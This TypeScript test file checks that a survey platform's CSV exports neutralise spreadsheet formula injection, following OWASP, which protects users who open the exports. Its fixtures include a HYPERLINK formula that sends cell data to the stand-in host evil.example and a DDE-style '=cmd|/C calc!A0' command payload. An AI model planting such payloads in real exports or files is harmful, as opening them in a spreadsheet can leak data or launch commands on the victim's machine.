/**
 * CSV exports neutralise formula injection (OWASP; issue 13, row 4): names, strata and answers that
 * start with `=`, `+`, `-`, `@`, tab or CR come out as text (a leading `'`); numbers stay numbers.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { createTestApp, type TestApp } from '../../../test/support/app.js';
import { createUser, type TestUser } from '../../../test/support/principals.js';
import { systemActor } from '../../platform/audit/audit.js';
import { parseCsv } from '../../platform/csv/csv.js';
import { loadRegistry } from '../../platform/orgs/registry.js';
import { loadTemplates } from '../questionnaires/templates/index.js';
import { tableFile } from './exports.js';

let t: TestApp;
let researcher: TestUser;

before(async () => {
  t = await createTestApp();
  await t.database.db.transaction(async (tx) => {
    await loadRegistry(tx, systemActor);
    await loadTemplates(tx, systemActor);
  });
  researcher = await createUser(t, { platformRoles: ['researcher'] });
});
after(() => t.close());

const api = (method: string, url: string, payload?: unknown, headers: Record<string, string> = {}) =>
  t.app.inject({
    method: method as 'GET',
    url,
    headers: { authorization: `Bearer ${researcher.bearer}`, ...headers },
    ...(payload === undefined ? {} : { payload: payload as any }),
  });

/** What a spreadsheet would run as a formula: a cell starting with a formula sign that is not a number. */
const isFormula = (cell: string) =>
  /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

const cellsOf = (body: string) => parseCsv(body.replace(/^\ufeff/, '')).flatMap((r) => r.values);

test('the non-respondent CSV export writes no cell a spreadsheet would run', async () => {
  const wave = (await api('POST', '/api/v1/waves', { code: 'csv-inj', name: 'Formulas' })).json();
  const frame = [
    'naam,email,rol,organisatie,afdeling',
    '"=HYPERLINK(""http://evil.example/?""&A1,""klik"")",a.inj@voorbeeld.nl,raadslid,GM0363,+31 20',
    '@SUM(1+1),b.inj@voorbeeld.nl,raadslid,GM0363,-2+3',
    '"\tcmd",c.inj@voorbeeld.nl,raadslid,GM0363,=1',
  ].join('\r\n');
  const imported = await api('POST', `/api/v1/waves/${wave.id}/frame-imports`, frame, {
    'content-type': 'text/csv',
  });
  assert.ok(imported.statusCode < 300, imported.body);
  const json = (await api('GET', `/api/v1/waves/${wave.id}/non-respondents?format=json`)).json();
  const raw = (json.rows as unknown[][]).flat().map((v) => String(v ?? ''));
  assert.ok(raw.some(isFormula), 'the frame really holds formula-like values');

  const csv = await api('GET', `/api/v1/waves/${wave.id}/non-respondents?format=csv`);
  assert.equal(csv.statusCode, 200);
  const cells = cellsOf(csv.body);
  assert.deepEqual(cells.filter(isFormula), []);
  assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?"&A1,"klik")`), 'kept as text, not lost');
  assert.ok(cells.includes("'@SUM(1+1)"));
});

test('tableFile (every CSV export, responses too): formulas neutralised, numbers kept', async () => {
  const file = await tableFile(
    {
      name: 'responses',
      columns: ['id', 'q1', 'q2', 'q3'],
      rows: [
        ['r1', '=cmd|/C calc!A0', -3, '+1'],
        ['r2', '-1+1', 2.5, '\r=1'],
        ['r3', '＝1+1', '-0.25', null],
      ],
    },
    'csv',
  );
  const cells = cellsOf(file.body.toString('utf8'));
  assert.deepEqual(cells.filter(isFormula), []);
  assert.ok(!cells.some((c) => c.startsWith('＝')));
  assert.ok(cells.includes('-3') && cells.includes('+1') && cells.includes('-0.25'), 'numbers stay numbers');
  assert.ok(cells.includes("'-1+1") && cells.includes("'=cmd|/C calc!A0"));
});
